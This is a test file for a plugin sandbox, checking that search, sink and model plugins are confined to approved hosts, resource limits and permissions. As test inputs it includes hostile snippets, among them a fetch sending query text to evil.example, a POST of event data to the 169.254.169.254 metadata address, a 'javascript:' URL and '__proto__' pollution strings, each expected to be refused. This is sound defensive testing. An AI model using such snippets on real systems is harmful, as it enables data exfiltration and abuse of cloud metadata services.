import { afterEach, describe, expect, it } from 'vitest';
import type { ModelPlugin, ProxyPlugin, SearchPlugin, SinkPlugin } from '../../../core/contract/plugin';
import {
  closeSandboxes,
  expectFailures,
  type Failing,
  type Granted,
  loadSandboxed,
  scriptOf,
  services,
  signal,
} from '../../support/sandboxed-plugins';

afterEach(closeSandboxes);

describe('a search', () => {
  const query = { text: 'kettles', source: 'web', limit: 3, language: 'en', country: 'us' } as const;
  const search = async (codes: readonly string[], granted?: Granted, config: object = {}) => {
    const bodies = codes.map((code) => `sources: ['web', 'news'], ${code}`);
    const loaded = await loadSandboxed<SearchPlugin>(scriptOf('Search', ...bodies), granted);
    const given = { http: loaded.http, log: services.log, ownPages: { search: services.unused } };
    const found = (at = 0) => loaded.plugins[at]!.create(config as never, given).search(query, signal);
    return { ...loaded, found };
  };

  it('sends its requests to approved hosts, and to the host in a setting that its manifest names', async () => {
    const code = `config: z.object({ url: z.url().default('https://collector.example'), key: z.string().meta({ secret: true }) }),
      create: ({ url, key }, { http }) => ({ async search({ text, limit }, signal) {
        const answer = await http.fetch(url + '/find?' + new URLSearchParams({ q: text }), { headers: { key, own: '{secret:MINE}' }, signal });
        const { results } = await readReply(answer, z.object({ results: z.array(z.object({ url: z.string(), title: z.string() })) }), { service: 'Mine' });
        return { hits: results.slice(0, limit), warning: undefined };
      } })`;
    const results = [{ url: 'https://a.example/', title: 'A' }];
    const granted = { hosts: ['{setting:url}'], answer: () => Response.json({ results }) };
    const config = { url: 'http://127.0.0.1:8888', key: 'k' };
    const { found, sent, plugins, problem } = await search([code], granted, config);
    expect([problem, plugins[0]?.sources]).toEqual([undefined, ['web', 'news']]);
    expect(plugins[0]?.config.parse({ key: 'k' })).toEqual({ ...config, url: 'https://collector.example' });
    expect(await found()).toEqual({ hits: results });
    expect(sent).toMatchObject([
      {
        url: 'http://127.0.0.1:8888/find?q=kettles',
        init: {
          headers: [
            ['key', 'k'],
            ['own', 'value of MINE'],
          ],
        },
      },
    ]);
    const refused = await search([code], { hosts: ['{setting:other}', 'api.example'] }, config);
    await expect(refused.found()).rejects.toThrow('may not send requests to 127.0.0.1:8888');
    const byDefault = await search([code], granted, { ...config, url: 'https://collector.example' });
    await expect(byDefault.found()).rejects.toThrow('may not send requests to collector.example');
    expect([...refused.sent, ...byDefault.sent]).toEqual([]);
  });

  const create = (body: string) =>
    `config: z.object({}), create: (config, { http, ownPages }) => ({ async search(query) { ${body} } })`;
  const failing: readonly Failing[] = [
    [`throw new AppError('SEARCH_FAILED', 'Enter a key.');`, 'Enter a key.'],
    [`throw new AppError('UNAUTHORIZED', 'Sign in.');`, 'Sign in.'],
    [`throw new Error('no');`, 'Error: no (line 5'],
    ['for (;;);', /500 ms of CPU time|2 s/],
    [`return { hits: [], warning: 'x'.repeat(6 * 2 ** 20) };`, /longer than 5 MB|32 MB/],
    ['return {};', 'its result is not valid ("hits"'],
    [`return { hits: [{ url: 'javascript:alert(1)', title: 'x' }] };`, '"hits.0.url"'],
    [`return { hits: Array(101).fill({ url: 'https://a.example/', title: 'x' }) };`, '"hits"'],
    [`await http.fetch('https://evil.example/?' + query.text);`, 'requests to evil.example'],
    [`await http.fetch('https://api.example/');`, 'requests to evil.example'],
    [`await http.fetch('https://api.example/', { redirect: 'error' });`, 'redirects to https://evil.example/'],
    [`await http.fetch('https://api.example/', { headers: { a: '{secret:OTHER}' } });`, '"OTHER"'],
    [`await ownPages.search('bank', 5);`, 'available only to trusted plugins'],
    ['await new Promise(() => {});', 'never settles'],
  ];

  it('fails with its name if it throws, is greedy or leaves its permissions', async () => {
    const answer = () => new Response(null, { status: 302, headers: { location: 'https://evil.example/' } });
    const { found, sent } = await search(
      failing.map(([body]) => create(body)),
      { answer },
    );
    await expectFailures(failing, 'SEARCH_FAILED', found);
    expect(sent.filter(({ url }) => url.includes('evil'))).toEqual([]);
  });

  it('leaves nothing to the next call, and a late promise cannot act for it', async () => {
    const { found, sent } = await search([
      create(`
      const before = globalThis.kept ?? 'none';
      globalThis.kept = query.text;
      const late = async () => { for (let at = 0; at < 99; at++) await 0; await http.fetch('https://api.example/late'); await http.fetch('https://api.example/later'); };
      late().catch(() => {});
      return { hits: [], warning: before };`),
    ]);
    expect([await found(), await found()]).toEqual([
      { hits: [], warning: 'none' },
      { hits: [], warning: 'none' },
    ]);
    expect(sent.filter(({ url }) => url.endsWith('/later'))).toEqual([]);
  });
});

describe('a sink', () => {
  const delivery = {
    ...{ webhookId: 'w1', type: 'crawl.page', jobId: 'j1', url: 'https://a.example/' },
    ...{ body: new TextEncoder().encode('{"name":"Käse"}'), headers: { 'x-signature': 's' } },
  };
  const sink = async (...codes: readonly string[]) => {
    const loaded = await loadSandboxed<SinkPlugin>(scriptOf('Sink', ...codes));
    const notices: object[] = [];
    const given = {
      http: loaded.http,
      log: services.log,
      notify: async (notice: object) => void notices.push(notice),
    };
    const config = { url: 'https://api.example/in' };
    const deliver = (at = 0) => loaded.plugins[at]!.create(config as never, given).deliver(delivery, signal);
    return { ...loaded, notices, deliver };
  };

  it('sends the exact bytes of an event, and shows a notice', async () => {
    const { deliver, sent, notices } =
      await sink(`config: z.object({ url: z.url() }), create: ({ url }, { http, notify }) => ({
      async deliver({ body, headers, type, webhookId }) {
        const { status } = await http.fetch(url, { method: 'POST', body, headers: { ...headers, webhookId } });
        await notify({ title: type, body: new TextDecoder().decode(body), path: '/settings' });
        return status < 300 ? { result: 'delivered', statusCode: status } : { result: 'retry' };
      },
    })`);
    expect(await deliver()).toEqual({ result: 'delivered', statusCode: 200 });
    expect(Buffer.from(sent[0]?.init.body as Uint8Array)).toEqual(Buffer.from(delivery.body));
    expect(sent[0]?.init).toMatchObject({
      method: 'POST',
      headers: [
        ['x-signature', 's'],
        ['webhookId', 'w1'],
      ],
    });
    expect(notices).toEqual([{ title: 'crawl.page', body: '{"name":"Käse"}' }]);
  });

  const create = (body: string) =>
    `config: z.object({}), create: (config, { http, notify }) => ({ async deliver(event) { ${body} } })`;
  const failing: readonly Failing[] = [
    [`throw new Error('no');`, 'Error: no'],
    [`throw new AppError('BAD_REQUEST', 'There is no such table.');`, 'no such table', 'BAD_REQUEST'],
    [`return { result: 'lost' };`, '"result"'],
    [`await http.fetch('http://169.254.169.254/', { method: 'POST', body: event.body });`, '169.254.169.254'],
    [`for (let at = 0; at < 500; at++) await notify({ title: 'x', body: 'y' });`, 'More than 10'],
    ['for (;;);', /500 ms of CPU time|2 s/],
  ];

  it('fails with its name if it throws, is greedy or leaves its permissions', async () => {
    const { deliver, sent, notices } = await sink(...failing.map(([body]) => create(body)));
    await expectFailures(failing, 'UNKNOWN_ERROR', deliver);
    expect([sent.length, notices.length]).toEqual([0, 10]);
  });
});
describe('a model', () => {
  const rules = { data: { name: null }, sources: [], missing: [] };
  const input = { text: 'A kettle.', answer: 'data', url: 'https://a.example/', rules } as const;
  const model = async (codes: readonly string[], granted?: Granted) => {
    const loaded = await loadSandboxed<ModelPlugin>(scriptOf('Model', ...codes), granted);
    const given = { http: loaded.http, log: services.log, languageModel: services.unused };
    const made = loaded.plugins.map((plugin) => plugin.create({} as never, given));
    return { ...loaded, made };
  };

  it('answers with values and lists its models', async () => {
    const answer = (url: string) => Response.json(url.endsWith('/models') ? ['small'] : { name: 'Kettle' });
    const {
      made: [made],
    } = await model(
      [
        `config: z.object({}), create: (config, { http }) => ({
        async extract({ text, rules }) {
          const value = { ...rules.data, ...(await (await http.fetch('https://api.example/ask', { method: 'POST', body: text })).json()) };
          return { value, tokensUsed: 7, sources: [{ path: '/name', url: 'https://a.example/', kind: 'json-ld', excerpt: 'kettle', score: 1 }] };
        },
        async list() { return (await http.fetch('https://api.example/models')).json(); },
      })`,
      ],
      { answer },
    );
    expect(await made!.extract(input, signal)).toEqual({
      ...{ value: { name: 'Kettle' }, tokensUsed: 7 },
      sources: [{ path: '/name', url: 'https://a.example/', kind: 'model', excerpt: 'kettle', score: 1 }],
    });
    expect(await made!.list?.(signal)).toEqual(['small']);
  });

  it('answers questions if it can, by their schema', async () => {
    const rest = `async extract() { return { value: {} }; }`;
    const {
      made: [made, bad, reader, strict],
    } = await model([
      `config: z.object({}), create: () => ({ ${rest}, ask: async ({ text }) => ({ limit: text.length }) })`,
      `config: z.object({}), create: () => ({ ${rest}, ask: async () => ({ limit: 'many' }) })`,
      `config: z.object({}), create: () => ({ ${rest} })`,
      `config: z.object({ key: z.string().min(1).default('') }), create: ({ key }) => { if (!key) throw new Error('no key'); return { ${rest}, ask: async () => ({}) }; }`,
    ]);
    const schema = { type: 'object', properties: { limit: { type: 'integer' } }, required: ['limit'] };
    const question = { instructions: 'Count.', text: 'four', schema };
    expect(await made!.ask?.(question, signal)).toEqual({ limit: 4 });
    await expect(bad!.ask?.(question, signal)).rejects.toMatchObject({ code: 'MODEL_FAILED' });
    expect(reader!.ask).toBeUndefined();
    await expect(strict!.ask?.(question, signal)).rejects.toThrow('no key');
  });

  it('answers several pages at a time, each from memory of its own', async () => {
    let waiting = 0;
    let release = () => {};
    const all = new Promise<void>((resolve) => {
      release = resolve;
    });
    const answer = async () => {
      if (++waiting === 3) release();
      await all;
      return Response.json(waiting);
    };
    const {
      made: [made],
      sandbox,
    } = await model(
      [
        `config: z.object({}), create: (config, { http }) => ({ async extract({ text }) {
        globalThis.texts = [...(globalThis.texts ?? []), text];
        await http.fetch('https://api.example/');
        return { value: globalThis.texts };
      } })`,
      ],
      { answer },
    );
    const texts = ['one', 'two', 'three'];
    const answers = await Promise.all(texts.map((text) => made!.extract({ ...input, text }, signal)));
    expect(answers.map(({ value }) => value)).toEqual(texts.map((text) => [text]));
    expect(sandbox.usage).toMatchObject({ calls: 3, faults: 0 });
  });

  const create = (body: string) =>
    `config: z.object({}), create: (config, { languageModel }) => ({ async extract() { ${body} } })`;
  const failing: readonly Failing[] = [
    [`languageModel({ baseUrl: 'https://api.example' });`, 'languageModel is available only to trusted'],
    [`return { value: 1, tokensUsed: -5 };`, '"tokensUsed"'],
    [`JSON.stringify = () => '{"value":{"value":{"__proto__":{"polluted":"yes"}},"tokensUsed":"x"}}';`, '"tokensUsed"'],
    [`JSON.stringify = () => '{"error":{"code":"__proto__","message":"forged"}}';`, 'its result is not valid'],
    ['const go = () => go() + 1; go();', 'recursed too deeply'],
    ['const all = []; for (;;) all.push(new Uint8Array(1e6).fill(1));', /32 MB of memory|500 ms|2 s/],
  ];

  it('fails with its name if it throws, is greedy or returns something else', async () => {
    const { made } = await model(failing.map(([body]) => create(body)));
    await expectFailures(failing, 'MODEL_FAILED', (at) => made[at]!.extract(input, signal));
    expect(({} as { polluted?: string }).polluted).toBeUndefined();
  });
});

it('keeps proxies, and plugins that tap hooks, out of the sandbox', async () => {
  const made = `config: z.object({}), create() {}, `;
  const proxy = await loadSandboxed<ProxyPlugin>(scriptOf('Proxy', made));
  expect([proxy.problem, proxy.plugins]).toEqual(['The plugin is a proxy, and proxies cannot run in the sandbox.', []]);
  const hooked = await loadSandboxed(scriptOf('Sink', `${made} setup() {}`));
  expect(hooked.problem).toBe('The sink "mine" has "setup", which only trusted plugins can use.');
});
